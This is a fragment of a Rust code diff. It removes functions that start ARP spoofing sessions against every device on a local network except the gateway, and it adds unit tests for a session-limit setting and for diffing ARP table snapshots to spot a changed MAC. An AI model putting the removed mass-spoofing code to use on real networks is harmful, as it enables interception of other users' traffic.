-) -> Result<Vec<SpoofingSession>, String> {
-    let sessions = state.0.lock().map_err(|e| e.to_string())?;
-    let mut active_sessions = Vec::new();
     
-    for session_info in sessions.values() {
-        active_sessions.push(session_info.session.clone());
+    #[test]
+    fn zero_session_limit_is_rejected() {
+        let error = set_max_concurrent_sessions(0).unwrap_err();
+        
+        assert_eq!(error.code(), ErrorCode::ConfigurationError);
+        assert_eq!(max_concurrent_sessions(), DEFAULT_MAX_CONCURRENT_SESSIONS);
     }
     
-    Ok(active_sessions)
-}
-
-pub fn start_spoof_all(
-    devices: Vec<NetworkDevice>,
-    gateway_ip: String,
-    interface_name: String,
-    state: State<SpoofingSessions>,
-) -> Result<Vec<String>, String> {
-    let mut session_ids = Vec::new();
-    
-    for device in devices {
-        if device.ip == gateway_ip {
-            continue; // Skip the gateway itself
-        }
+    #[test]
+    fn arp_diff_reports_a_changed_mac_but_not_its_formatting() {
+        let entry = |ip: &str, mac: &str| ArpEntry { ip: ip.to_string(), mac: mac.to_string(), is_static: false };
+        let previous = vec![
+            entry("192.168.1.1", "aa:bb:cc:00:00:01"),
+            entry("192.168.1.10", "aa:bb:cc:00:00:10"),
+            entry("192.168.1.11", "aa:bb:cc:00:00:11"),
+        ];
+        let current = vec![
+            entry("192.168.1.1", "de:ad:be:ef:00:01"),
+            entry("192.168.1.10", "AA-BB-CC-00-00-10"),
+            entry("192.168.1.12", "aa:bb:cc:00:00:12"),
+        ];
         
-        let device_ip = device.ip.clone();
-        match start_spoofing(
-            device.ip,
-            gateway_ip.clone(),
-            interface_name.clone(),
-            state.clone(),
-        ) {
-            Ok(session_id) => session_ids.push(session_id),
-            Err(e) => eprintln!("Failed to start spoofing for {}: {}", device_ip, e),
-        }
+        let diff = diff_arp_snapshots(&previous, &current);
+        
+        assert_eq!(diff.added, vec![current[2].clone()]);
+        assert_eq!(diff.removed, vec![previous[2].clone()]);
+        assert_eq!(diff.changed, vec![(previous[0].clone(), current[0].clone())]);
     }
-    
-    Ok(session_ids)
 }